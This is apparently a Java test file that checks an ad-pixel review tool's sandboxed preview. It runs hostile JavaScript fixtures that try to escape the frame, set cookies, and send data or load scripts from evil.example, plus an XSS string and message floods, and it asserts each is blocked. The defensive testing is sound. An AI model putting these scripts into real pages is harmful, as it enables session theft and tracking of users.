package org.pixelkeep.review.http;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.WaitForSelectorState;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.pixelkeep.pixel.Pixel;
import org.pixelkeep.pixel.edit.PixelService;
import org.pixelkeep.pixel.tracker.PixelEvent;
import org.pixelkeep.pixel.tracker.PixelFormat;
import org.pixelkeep.pixel.tracker.TrackedEvent;
import org.pixelkeep.pixel.tracker.Tracker;
import org.pixelkeep.review.PreviewTickets;
import org.pixelkeep.testing.Browser;
import org.pixelkeep.testing.Exhaustive;
import org.pixelkeep.testing.Given;
import org.pixelkeep.testing.GivenPeople;
import org.pixelkeep.testing.SettableClock;
import org.pixelkeep.testing.SignedIn;

@QuarkusTest
class PreviewTest {
    private static final String HOSTILE = """
            var tried = [];
            function attempt(name, what) {
              try { what(); tried.push(name + ' done'); } catch (e) { tried.push(name + ' refused'); }
            }
            attempt('parent', function () { parent.document.title = 'owned'; });
            attempt('top', function () { top.document.body.innerHTML = 'owned'; });
            attempt('navigation', function () { top.location = 'https://evil.example/top'; });
            attempt('cookie', function () { document.cookie = 'stolen=1'; if (document.cookie) { throw 1; } });
            attempt('storage', function () { localStorage.setItem('a', 'b'); });
            attempt('session', function () { sessionStorage.setItem('a', 'b'); });
            attempt('database', function () { indexedDB.open('a'); });
            attempt('popup', function () { if (!window.open('https://evil.example/popup')) { throw 1; } });
            fetch('https://evil.example/fetch').catch(function () {});
            fetch('/api/v1/me', { credentials: 'include' }).catch(function () {});
            navigator.sendBeacon('https://evil.example/beacon', 'x');
            new Image().src = 'https://evil.example/image';
            var s = document.createElement('script'); s.src = 'https://evil.example/script.js'; document.body.append(s);
            var f = document.createElement('iframe'); f.src = 'https://evil.example/frame'; document.body.append(f);
            var form = document.createElement('form');
            form.action = 'https://evil.example/form'; form.method = 'post'; document.body.append(form);
            form.submit();
            try { new WebSocket('wss://evil.example/socket'); } catch (e) { tried.push('socket refused'); }
            parent.postMessage({ from: 'pixelkeep-preview', kind: 'failed', what: '<img src=x onerror=alert(1)>' }, '*');
            document.title = tried.join(', ');
            tried.forEach(function (each) {
              parent.postMessage({ from: 'pixelkeep-preview', kind: 'failed', what: each }, '*');
            });
            """;

    private final PreviewTickets tickets;
    private final PixelService pixels;
    private final SettableClock clock;

    PreviewTest(PreviewTickets tickets, PixelService pixels, SettableClock clock) {
        this.tickets = tickets;
        this.pixels = pixels;
        this.clock = clock;
    }

    @Test
    void a_hostile_script_reaches_nothing_and_what_it_asked_for_is_listed() {
        var network = Given.network("Northwind");
        var pixel = Given.pixel(network, Given.script("Hostile", HOSTILE));
        var requested = new CopyOnWriteArrayList<String>();
        try (var browser = Browser.visit(Browser.Look.DESK).expect("")) {
            var page = signedIn(browser, network.id);
            page.onResponse(response -> requested.add(response.url()));
            var address = "/pixels/" + pixel.id + "/review";

            browser.open(address);
            assertThat(page.locator("iframe").count()).isZero();
            page.getByText("Try the secure variant").click();
            page.locator("[data-preview-list] li", new Page.LocatorOptions().setHasText("session refused"))
                    .waitFor();
            for (var last : List.of(
                    "img-src: https://evil.example/image",
                    "https://evil.example/script.js",
                    "frame-src: https://evil.example")) {
                page.locator("[data-preview-list] li", new Page.LocatorOptions().setHasText(last))
                        .first()
                        .waitFor();
            }

            var listed = page.locator("[data-preview-list] li").allTextContents();
            assertThat(listed)
                    .contains(
                            "error: parent refused",
                            "error: top refused",
                            "error: navigation refused",
                            "error: cookie refused",
                            "error: storage refused",
                            "error: session refused",
                            "error: database refused",
                            "error: popup refused",
                            "connect-src: https://evil.example/fetch",
                            "connect-src: https://evil.example/beacon",
                            "error: <img src=x onerror=alert(1)>")
                    .anyMatch(line -> line.contains("https://evil.example/script.js"))
                    .anyMatch(line -> line.startsWith("frame-src: https://evil.example"));
            assertThat(page.url()).contains(address);
            assertThat(page.title()).contains("Review Hostile");
            assertThat(page.locator("[data-preview-list] img").count()).isZero();
            assertThat(requested).allMatch(url -> url.startsWith(RestAssured.baseURI + ":" + RestAssured.port));
            assertThat(requested).noneMatch(url -> url.endsWith("/api/v1/me"));
            assertThat(page.context().cookies())
                    .extracting(cookie -> cookie.name)
                    .doesNotContain("stolen");
        }
    }

    @Exhaustive("each way out of the frame")
    @Test
    void neither_workers_nor_names_nor_dialogs_lead_out_of_the_frame() {
        var script = """
                var tried = [];
                function attempt(name, what) {
                  try { what(); tried.push(name + ' done'); } catch (e) { tried.push(name + ' refused'); }
                }
                attempt('service worker', function () { navigator.serviceWorker.register('/x.js'); });
                attempt('name of the page', function () { top.name = 'owned'; });
                attempt('caches', function () { caches.open('x'); });
                attempt('peer', function () { new RTCPeerConnection(); });
                attempt('peer of a frame', function () {
                  var f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.RTCPeerConnection();
                });
                new Worker(URL.createObjectURL(new Blob(['fetch("https://evil.example/worker")'])));
                window.name = 'kept'; alert(1); confirm(2); print();
                tried.forEach(function (each) {
                  parent.postMessage({ from: 'pixelkeep-preview', kind: 'failed', what: each }, '*');
                });
                """;
        try (var browser = Browser.visit(Browser.Look.DESK).expect("")) {
            var dialogs = new CopyOnWriteArrayList<String>();
            browser.page().onDialog(dialog -> {
                dialogs.add(dialog.message());
                dialog.dismiss();
            });
            var requested = new CopyOnWriteArrayList<String>();
            browser.page().onRequest(request -> requested.add(request.url()));
            var page = tried(browser, script);

            page.locator("[data-preview-list] li", new Page.LocatorOptions().setHasText("peer of a frame refused"))
                    .waitFor();
            assertThat(page.locator("[data-preview-list] li").allTextContents())
                    .contains(
                            "error: service worker refused",
                            "error: name of the page refused",
                            "error: caches refused",
                            "error: peer refused");
            assertThat(page.evaluate("() => window.name")).isEqualTo("");
            assertThat(dialogs).isEmpty();
            assertThat(requested).noneMatch(url -> url.contains("evil.example"));
        }
    }

    @Exhaustive("a flood of messages")
    @Test
    void a_frame_that_floods_the_page_with_messages_is_taken_away() {
        var script = "setInterval(function () { for (var i = 0; i < 5000; i++) { parent.postMessage({ from:"
                + " 'pixelkeep-preview', kind: 'failed', what: 'x' + Math.random() }, '*'); } }, 1);";
        try (var browser = Browser.visit(Browser.Look.DESK).expect("")) {
            var page = tried(browser, script);

            page.getByText("it sent more messages than legitimate content would")
                    .waitFor();
            assertThat(page.locator("iframe").count()).isZero();
            assertThat(page.locator("[data-preview-list] li").count()).isBetween(1, 100);
        }
    }

    @Exhaustive("in a browser")
    @Test
    void what_is_no_text_is_not_looked_at() {
        var script =
                "var a = []; a.length = 4000000000; parent.postMessage({ from: 'pixelkeep-preview', kind: 'failed',"
                        + " what: a }, '*'); parent.postMessage({ from: 'pixelkeep-preview', kind: 'failed', what: 'after' },"
                        + " '*');";
        try (var browser = Browser.visit(Browser.Look.DESK).expect("")) {
            var page = tried(browser, script);

            page.locator("[data-preview-list] li", new Page.LocatorOptions().setHasText("error: after"))
                    .waitFor();
            assertThat(page.locator("[data-preview-list] li").allTextContents())
                    .containsExactly("error: ", "error: after");
        }
    }

    @Exhaustive("waits for a script without end")
    @Test
    void a_script_without_end_leaves_the_page_alone_and_is_taken_away_after_a_while() {
        try (var browser = Browser.visit(Browser.Look.DESK).expect("")) {
            browser.page().addInitScript(TWENTY_TIMES_AS_FAST);
            var page = tried(browser, "while (true) { }");

            assertThat(page.evaluate("() => document.querySelectorAll('iframe').length"))
                    .isEqualTo(1);
            page.getByText("it did not finish within 20 seconds").waitFor();
            assertThat(page.locator("iframe").count()).isZero();
        }
    }

    private static final String TWENTY_TIMES_AS_FAST =
            "const later = window.setTimeout; window.setTimeout = (what, ms) => later(what, ms / 20);";

    /** The review page of a script that a reviewer tries in the sandbox. */
    private static Page tried(Browser browser, String script) {
        var network = Given.network("Northwind");
        var pixel = Given.pixel(network, Given.script("Hostile", script));
        var page = signedIn(browser, network.id);
        browser.open("/pixels/" + pixel.id + "/review");
        page.getByText("Try the secure variant").click(new Locator.ClickOptions().setNoWaitAfter(true));
        page.locator("[data-preview-count]")
                .waitFor(new Locator.WaitForOptions().setState(WaitForSelectorState.ATTACHED));
        return page;
    }

    @Test
    void the_document_has_an_origin_of_its_own_and_nothing_of_the_session() {
        var network = Given.network("Northwind");
        var pixel = Given.pixel(
                network,
                Given.script(
                        "Script", "var a = '</script><script>alert(1)</script>\u2028'; var b = '${CACHEBUSTER}';"));
        var cookie = SignedIn.cookie(GivenPeople.reviewer(network.id).email);

        var answer = SignedIn.withCookie(cookie).get("/previews/" + ticket(pixel));

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.header("Content-Security-Policy"))
                .startsWith("sandbox allow-scripts; default-src 'none';")
                .doesNotContain("allow-same-origin")
                .endsWith("frame-ancestors 'self'");
        assertThat(answer.header("Referrer-Policy")).isEqualTo("no-referrer");
        assertThat(answer.cookies()).isEmpty();
        assertThat(answer.asString())
                .doesNotContain(cookie)
                .doesNotContain(SignedIn.csrf(cookie))
                .doesNotContain("<script>alert(1)")
                .contains("\\u003c/script>\\u003cscript>alert(1)")
                .contains("1234567890");
    }

    @Exhaustive("each event")
    @Test
    void each_event_of_a_pixel_is_tried() {
        var network = Given.network("Northwind");
        var pixel = Given.pixel(
                network,
                Given.draft("Events", PixelFormat.IMAGE_URL, null, "https://v.example/impression")
                        .tracking(List.of(
                                tracker(PixelEvent.IMPRESSION, "https://v.example/impression?r=${CACHEBUSTER}"),
                                tracker(PixelEvent.COMPLETE, "https://v.example/complete"))));
        try (var browser = Browser.visit(Browser.Look.DESK).expect("")) {
            var page = signedIn(browser, network.id);
            browser.open("/pixels/" + pixel.id + "/review?preview=SECURE");

            page.locator("[data-preview-list] li", new Page.LocatorOptions().setHasText("complete"))
                    .waitFor();
            assertThat(page.locator("[data-preview-list] li").allTextContents())
                    .containsExactly(
                            "img-src: https://v.example/impression?r=1234567890",
                            "img-src: https://v.example/complete");
        }
    }

    private static Tracker tracker(PixelEvent event, String secureUrl) {
        return Tracker.of(TrackedEvent.of(event), null, secureUrl);
    }

    @Test
    void a_ticket_needs_no_sign_in_and_lasts_five_minutes() {
        var pixel = Given.pixel(Given.network("Northwind"), "Image");
        var ticket = ticket(pixel);
        given().get("/previews/" + ticket).then().statusCode(200);

        clock.pass(Duration.ofMinutes(6));

        given().get("/previews/" + ticket).then().statusCode(404);
    }

    @Test
    void a_ticket_shows_the_version_that_it_was_made_for() {
        var network = Given.network("Northwind");
        var pixel = Given.pixel(network, "Image");
        var ticket = ticket(pixel);

        pixels.setActive(Given.system(network.id), pixel.id, null, false);

        given().get("/previews/" + ticket).then().statusCode(404);
    }

    @Test
    void a_forged_ticket_opens_nothing() {
        var pixel = Given.pixel(Given.network("Northwind"), "Image");
        var ticket = ticket(pixel);
        var forged = (ticket.charAt(10) == 'A' ? "B" : "A");

        for (var text : List.of(
                "x",
                "AAAA",
                ticket.substring(1),
                ticket.substring(0, 10) + forged + ticket.substring(11),
                ticket + "A")) {
            given().get("/previews/" + text).then().statusCode(404);
        }
    }

    private String ticket(Pixel pixel) {
        return tickets.issue(new PreviewTickets.Ticket(pixel.id, pixel.version, true, false));
    }

    private static Page signedIn(Browser browser, long networkId) {
        browser.signIn(GivenPeople.reviewer(networkId).email);
        return browser.page();
    }
}
